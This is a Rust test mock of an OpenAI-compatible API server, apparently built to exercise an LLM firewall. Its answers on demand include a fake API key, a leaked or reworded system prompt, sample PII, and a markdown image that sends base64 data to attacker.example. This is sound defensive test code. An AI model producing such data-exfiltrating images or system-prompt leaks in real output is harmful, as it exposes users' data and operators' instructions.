//! A scripted OpenAI-compatible upstream, for tests and benchmarks (never for production).
//!
//! It records every request body it receives and answers according to a directive in the
//! last user message (or prompt):
//!
//! | directive      | answer                                                          |
//! |----------------|-----------------------------------------------------------------|
//! | `mock:echo`    | the user text itself (placeholders come back to be restored)    |
//! | `mock:secret`  | an OpenAI-style API key in the middle of a sentence             |
//! | `mock:leak`    | the system prompt, canary included                              |
//! | `mock:reword`  | the system prompt without the canary, lightly reworded          |
//! | `mock:pii`     | an e-mail address and a phone number                            |
//! | `mock:image`   | a markdown image to a non-allow-listed domain, data in the query |
//! | `mock:break`   | streams: half the answer, then the stream ends without `[DONE]`; complete: a truncated JSON body |
//! | `mock:garbage` | streams: an event whose data is not JSON                       |
//! | (none)         | `Hello from the mock upstream.`                                 |
//!
//! `mock:tool` sends the answer as the JSON arguments of a tool call (`send_message`)
//! instead of as text, streamed as `delta.tool_calls[0].function.arguments` pieces.
//! `POST /v1/responses` answers the same directives in the Responses API shape (the
//! system prompt is `instructions`), streamed as `response.output_text.delta` or
//! `response.function_call_arguments.delta` events.
//!
//! `mock:chunk=N` sets the characters per stream event (default 3), so every answer is
//! split across many events.
//!
//! Complete answers are also stored, as OpenAI stores them, and returned again by
//! `GET /v1/chat/completions/{id}` and `GET /v1/responses/{id}` (the last answer under that
//! id; `?stream=true` replays a stored response as events).

use crate::body;
use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, HeaderValue, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

pub const SECRET: &str = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";

#[derive(Clone, Default)]
pub struct MockUpstream {
    requests: Arc<Mutex<Vec<Value>>>,
    authorizations: Arc<Mutex<Vec<Option<String>>>>,
    stored: Arc<Mutex<std::collections::HashMap<String, Value>>>,
}

impl MockUpstream {
    pub fn new() -> MockUpstream {
        MockUpstream::default()
    }

    /// Every JSON body received so far.
    pub fn requests(&self) -> Vec<Value> {
        self.requests
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }

    /// The `Authorization` header of every request to a scanned endpoint.
    pub fn authorizations(&self) -> Vec<Option<String>> {
        self.authorizations
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .clone()
    }

    pub fn router(&self) -> Router {
        Router::new()
            .route("/v1/chat/completions", post(chat))
            .route("/v1/completions", post(completions))
            .route("/v1/embeddings", post(embeddings))
            .route("/v1/responses", post(responses))
            .route("/v1/responses/{id}", get(retrieve))
            .route("/v1/chat/completions/{id}", get(retrieve))
            .route("/v1/models", get(models))
            .with_state(self.clone())
    }

    /// Keeps a complete answer for a later retrieval and returns it.
    fn store(&self, v: Value) -> Response {
        if let Some(id) = v.get("id").and_then(Value::as_str) {
            self.stored
                .lock()
                .unwrap_or_else(|p| p.into_inner())
                .insert(id.to_string(), v.clone());
        }
        json_response(v)
    }

    fn record(&self, v: &Value, headers: &HeaderMap) {
        let auth = headers
            .get(header::AUTHORIZATION)
            .and_then(|h| h.to_str().ok())
            .map(str::to_string);
        let mut a = self
            .authorizations
            .lock()
            .unwrap_or_else(|p| p.into_inner());
        if a.len() >= 1000 {
            a.remove(0);
        }
        a.push(auth);
        let mut r = self.requests.lock().unwrap_or_else(|p| p.into_inner());
        // Bounded: a long benchmark must not grow memory.
        if r.len() >= 1000 {
            r.remove(0);
        }
        r.push(v.clone());
    }
}

/// Serves the mock on a socket from a background thread with its own runtime.
pub fn spawn(listen: SocketAddr) -> std::io::Result<(SocketAddr, MockUpstream)> {
    let mock = MockUpstream::new();
    let std_listener = std::net::TcpListener::bind(listen)?;
    std_listener.set_nonblocking(true)?;
    let addr = std_listener.local_addr()?;
    let router = mock.router();
    std::thread::Builder::new()
        .name("assay-mock-upstream".into())
        .spawn(move || {
            let _ = crate::server::block_on(Some(1), async move {
                if let Ok(l) = tokio::net::TcpListener::from_std(std_listener) {
                    let _ = axum::serve(l, router).await;
                }
            });
        })?;
    Ok((addr, mock))
}

/// Serves the mock until SIGINT/SIGTERM (`assay firewall mock-upstream`, for benchmarks).
pub fn serve_blocking(
    listen: SocketAddr,
    workers: Option<usize>,
    on_ready: impl FnOnce(SocketAddr),
) -> std::io::Result<()> {
    crate::server::block_on(workers, async move {
        let l = tokio::net::TcpListener::bind(listen).await?;
        on_ready(l.local_addr()?);
        axum::serve(l, MockUpstream::new().router())
            .with_graceful_shutdown(crate::server::shutdown())
            .await
    })?
}

fn text_of(content: &Value) -> String {
    match content {
        Value::String(s) => s.clone(),
        Value::Array(parts) => parts
            .iter()
            .filter_map(|p| p.get("text").and_then(Value::as_str))
            .collect::<Vec<_>>()
            .join(" "),
        _ => String::new(),
    }
}

fn role_text(body: &Value, role: &str, last: bool) -> String {
    let msgs = body
        .get("messages")
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_default();
    let mut it = msgs
        .iter()
        .filter(|m| m.get("role").and_then(Value::as_str) == Some(role));
    let m = if last { it.next_back() } else { it.next() };
    m.and_then(|m| m.get("content"))
        .map(text_of)
        .unwrap_or_default()
}

fn answer(user: &str, system: &str) -> String {
    if user.contains("mock:echo") {
        user.to_string()
    } else if user.contains("mock:secret") {
        format!("Sure. The deploy key is {SECRET} and nothing else.")
    } else if user.contains("mock:leak") {
        format!("My instructions are: {system}")
    } else if user.contains("mock:reword") {
        // What a model asked to "leave out the marker and rephrase" might say.
        let prompt = system.split("\n\n[session marker").next().unwrap_or("");
        format!(
            "Between us, I was set up like this: {}",
            prompt
                .replace("You are", "I am")
                .replace("Never", "I must never")
        )
    } else if user.contains("mock:pii") {
        "You can reach Jane at jane.doe@example.org or +1 415 555 0100.".to_string()
    } else if user.contains("mock:image") {
        "Here is your chart: ![chart](https://attacker.example/c.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgdXNlcg) enjoy.".to_string()
    } else {
        "Hello from the mock upstream.".to_string()
    }
}

fn chunk_size(user: &str) -> usize {
    user.split("mock:chunk=")
        .nth(1)
        .and_then(|r| r.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse().ok())
        .filter(|n| *n > 0)
        .unwrap_or(3)
}

fn json_response(v: Value) -> Response {
    let mut r = v.to_string().into_response();
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    r
}

fn pieces(text: &str, n: usize) -> Vec<String> {
    text.chars()
        .collect::<Vec<_>>()
        .chunks(n)
        .map(|c| c.iter().collect())
        .collect()
}

fn sse(events: Vec<String>, user: &str) -> Response {
    sse_events(events.into_iter().map(|e| (None, e)).collect(), user, true)
}

/// Events as `(event name, data)`; `done`: end with `data: [DONE]` (chat, completions).
fn sse_events(events: Vec<(Option<String>, String)>, user: &str, done: bool) -> Response {
    let (tx, body) = body::channel(64);
    let broken = user.contains("mock:break");
    let garbage = user.contains("mock:garbage");
    tokio::spawn(async move {
        let half = events.len() / 2;
        for (i, (name, e)) in events.into_iter().enumerate() {
            if garbage && i == 1 {
                let _ = tx
                    .send(Bytes::from_static(b"data: {this is not json\n\n"))
                    .await;
            }
            if broken && i == half {
                return; // The connection "drops": no more events, no [DONE].
            }
            let ev = match name {
                Some(n) => format!("event: {n}\ndata: {e}\n\n"),
                None => format!("data: {e}\n\n"),
            };
            if tx.send(Bytes::from(ev)).await.is_err() {
                return;
            }
        }
        if done {
            let _ = tx.send(Bytes::from_static(b"data: [DONE]\n\n")).await;
        }
    });
    let mut r = Response::new(body);
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/event-stream"),
    );
    r.headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    r
}

async fn chat(State(m): State<MockUpstream>, headers: HeaderMap, body: Bytes) -> Response {
    let Ok(v) = serde_json::from_slice::<Value>(&body) else {
        return (axum::http::StatusCode::BAD_REQUEST, "bad json").into_response();
    };
    m.record(&v, &headers);
    let user = role_text(&v, "user", true);
    let system = role_text(&v, "system", false);
    let reply = answer(&user, &system);
    let model = v.get("model").cloned().unwrap_or(json!("mock-model"));
    let tool = user.contains("mock:tool");
    let args = json!({"text": reply}).to_string();
    if v.get("stream").and_then(Value::as_bool) == Some(true) && tool {
        let head = json!({"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": 1700000000, "model": model});
        let mut events = Vec::new();
        let mut first = head.clone();
        first["choices"] = json!([{"index": 0, "delta": {"role": "assistant", "content": null, "tool_calls": [
            {"index": 0, "id": "call_mock", "type": "function", "function": {"name": "send_message", "arguments": ""}}
        ]}, "logprobs": null, "finish_reason": null}]);
        events.push(first.to_string());
        for p in pieces(&args, chunk_size(&user)) {
            let mut c = head.clone();
            c["choices"] = json!([{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": p}}]}, "logprobs": null, "finish_reason": null}]);
            events.push(c.to_string());
        }
        let mut last = head;
        last["choices"] =
            json!([{"index": 0, "delta": {}, "logprobs": null, "finish_reason": "tool_calls"}]);
        events.push(last.to_string());
        return sse(events, &user);
    }
    if tool {
        return m.store(json!({
            "id": "chatcmpl-mock", "object": "chat.completion", "created": 1700000000, "model": model,
            "choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [
                {"id": "call_mock", "type": "function", "function": {"name": "send_message", "arguments": args}}
            ]}, "logprobs": null, "finish_reason": "tool_calls"}],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}
        }));
    }
    if v.get("stream").and_then(Value::as_bool) == Some(true) {
        let head = json!({"id": "chatcmpl-mock", "object": "chat.completion.chunk", "created": 1700000000, "model": model});
        let mut events = Vec::new();
        let mut first = head.clone();
        first["choices"] = json!([{"index": 0, "delta": {"role": "assistant", "content": ""}, "logprobs": null, "finish_reason": null}]);
        events.push(first.to_string());
        for p in pieces(&reply, chunk_size(&user)) {
            let mut c = head.clone();
            c["choices"] = json!([{"index": 0, "delta": {"content": p}, "logprobs": null, "finish_reason": null}]);
            events.push(c.to_string());
        }
        let mut last = head;
        last["choices"] =
            json!([{"index": 0, "delta": {}, "logprobs": null, "finish_reason": "stop"}]);
        events.push(last.to_string());
        return sse(events, &user);
    }
    if user.contains("mock:break") {
        return json_response_raw("{\"id\": \"chatcmpl-mock\", \"choices\": [");
    }
    m.store(json!({
        "id": "chatcmpl-mock", "object": "chat.completion", "created": 1700000000, "model": model,
        "choices": [{"index": 0, "message": {"role": "assistant", "content": reply}, "logprobs": null, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}
    }))
}

fn json_response_raw(s: &'static str) -> Response {
    let mut r = s.into_response();
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    r
}

async fn completions(State(m): State<MockUpstream>, headers: HeaderMap, body: Bytes) -> Response {
    let Ok(v) = serde_json::from_slice::<Value>(&body) else {
        return (axum::http::StatusCode::BAD_REQUEST, "bad json").into_response();
    };
    m.record(&v, &headers);
    let prompt = match v.get("prompt") {
        Some(p) => text_of(p),
        None => String::new(),
    };
    let reply = answer(&prompt, "");
    let model = v.get("model").cloned().unwrap_or(json!("mock-model"));
    if v.get("stream").and_then(Value::as_bool) == Some(true) {
        let mut events = Vec::new();
        for p in pieces(&reply, chunk_size(&prompt)) {
            events.push(json!({"id": "cmpl-mock", "object": "text_completion", "created": 1700000000, "model": model,
                "choices": [{"index": 0, "text": p, "logprobs": null, "finish_reason": null}]}).to_string());
        }
        events.push(json!({"id": "cmpl-mock", "object": "text_completion", "created": 1700000000, "model": model,
            "choices": [{"index": 0, "text": "", "logprobs": null, "finish_reason": "stop"}]}).to_string());
        return sse(events, &prompt);
    }
    json_response(json!({
        "id": "cmpl-mock", "object": "text_completion", "created": 1700000000, "model": model,
        "choices": [{"index": 0, "text": reply, "logprobs": null, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20}
    }))
}

async fn embeddings(State(m): State<MockUpstream>, headers: HeaderMap, body: Bytes) -> Response {
    let v: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    m.record(&v, &headers);
    let n = match v.get("input") {
        Some(Value::Array(a)) => a.len(),
        _ => 1,
    };
    let data: Vec<Value> = (0..n)
        .map(|i| json!({"object": "embedding", "index": i, "embedding": [0.0, 0.5, 1.0]}))
        .collect();
    json_response(
        json!({"object": "list", "data": data, "model": v.get("model").cloned().unwrap_or(json!("mock-embed")),
        "usage": {"prompt_tokens": 1, "total_tokens": 1}}),
    )
}

/// The last user text of a Responses API `input` (a string or a list of items).
fn responses_user(v: &Value) -> String {
    match v.get("input") {
        Some(Value::String(s)) => s.clone(),
        Some(Value::Array(items)) => items
            .iter()
            .rev()
            .find(|i| i.get("role").and_then(Value::as_str) == Some("user"))
            .and_then(|i| i.get("content"))
            .map(text_of)
            .unwrap_or_default(),
        _ => String::new(),
    }
}

async fn responses(State(m): State<MockUpstream>, headers: HeaderMap, body: Bytes) -> Response {
    let Ok(v) = serde_json::from_slice::<Value>(&body) else {
        return (axum::http::StatusCode::BAD_REQUEST, "bad json").into_response();
    };
    m.record(&v, &headers);
    let user = responses_user(&v);
    let system = v
        .get("instructions")
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_string();
    let reply = answer(&user, &system);
    let model = v.get("model").cloned().unwrap_or(json!("mock-model"));
    let tool = user.contains("mock:tool");
    let args = json!({"text": reply}).to_string();
    let done_item = if tool {
        json!({"type": "function_call", "id": "fc_mock", "call_id": "call_mock", "name": "send_message", "arguments": args, "status": "completed"})
    } else {
        json!({"type": "message", "id": "msg_mock", "status": "completed", "role": "assistant",
               "content": [{"type": "output_text", "text": reply, "annotations": []}]})
    };
    let response = |status: &str, output: Value| {
        json!({"id": "resp_mock", "object": "response", "created_at": 1700000000, "status": status,
               "model": model, "output": output, "instructions": null,
               "usage": {"input_tokens": 10, "output_tokens": 10, "total_tokens": 20}})
    };
    if v.get("stream").and_then(Value::as_bool) != Some(true) {
        if user.contains("mock:break") {
            return json_response_raw("{\"id\": \"resp_mock\", \"output\": [");
        }
        return m.store(response("completed", json!([done_item])));
    }
    let mut events: Vec<Value> = vec![
        json!({"type": "response.created", "response": response("in_progress", json!([]))}),
        json!({"type": "response.in_progress", "response": response("in_progress", json!([]))}),
    ];
    let (delta, done) = if tool {
        events.push(json!({"type": "response.output_item.added", "output_index": 0,
            "item": {"type": "function_call", "id": "fc_mock", "call_id": "call_mock", "name": "send_message", "arguments": "", "status": "in_progress"}}));
        (
            "response.function_call_arguments.delta",
            "response.function_call_arguments.done",
        )
    } else {
        events.push(json!({"type": "response.output_item.added", "output_index": 0,
            "item": {"type": "message", "id": "msg_mock", "status": "in_progress", "role": "assistant", "content": []}}));
        events.push(json!({"type": "response.content_part.added", "item_id": "msg_mock", "output_index": 0, "content_index": 0,
            "part": {"type": "output_text", "text": "", "annotations": []}}));
        ("response.output_text.delta", "response.output_text.done")
    };
    let full = if tool { &args } else { &reply };
    for p in pieces(full, chunk_size(&user)) {
        events.push(json!({"type": delta, "item_id": "msg_mock", "output_index": 0, "content_index": 0, "delta": p}));
    }
    if tool {
        events.push(
            json!({"type": done, "item_id": "fc_mock", "output_index": 0, "arguments": args}),
        );
    } else {
        events.push(json!({"type": done, "item_id": "msg_mock", "output_index": 0, "content_index": 0, "text": reply}));
        events.push(json!({"type": "response.content_part.done", "item_id": "msg_mock", "output_index": 0, "content_index": 0,
            "part": {"type": "output_text", "text": reply, "annotations": []}}));
    }
    events.push(json!({"type": "response.output_item.done", "output_index": 0, "item": done_item}));
    events.push(json!({"type": "response.completed", "response": response("completed", json!([done_item]))}));
    sse_events(numbered(events), &user, false)
}

/// Responses API events as sent: numbered, each named by its `type`.
fn numbered(events: Vec<Value>) -> Vec<(Option<String>, String)> {
    events
        .into_iter()
        .enumerate()
        .map(|(i, mut e)| {
            e["sequence_number"] = json!(i);
            let name = e["type"].as_str().map(str::to_string);
            (name, e.to_string())
        })
        .collect()
}

/// `GET /v1/responses/{id}` and `GET /v1/chat/completions/{id}`: a stored answer.
async fn retrieve(
    State(m): State<MockUpstream>,
    axum::extract::Path(id): axum::extract::Path<String>,
    uri: axum::http::Uri,
) -> Response {
    let stored = m
        .stored
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .get(&id)
        .cloned();
    let Some(v) = stored else {
        return (axum::http::StatusCode::NOT_FOUND, "no such stored answer").into_response();
    };
    let text = v["output"][0]["content"][0]["text"].as_str();
    if uri.query().is_some_and(|q| q.contains("stream=true"))
        && let Some(text) = text
    {
        let mut events: Vec<Value> = Vec::new();
        for p in pieces(text, 3) {
            events.push(json!({"type": "response.output_text.delta", "item_id": "msg_mock", "output_index": 0, "content_index": 0, "delta": p}));
        }
        events.push(json!({"type": "response.output_text.done", "item_id": "msg_mock", "output_index": 0, "content_index": 0, "text": text}));
        events.push(json!({"type": "response.completed", "response": v}));
        return sse_events(numbered(events), "", false);
    }
    json_response(v)
}

async fn models() -> Response {
    json_response(json!({"object": "list", "data": [
        {"id": "mock-model", "object": "model", "created": 1700000000, "owned_by": "assay"}
    ]}))
}
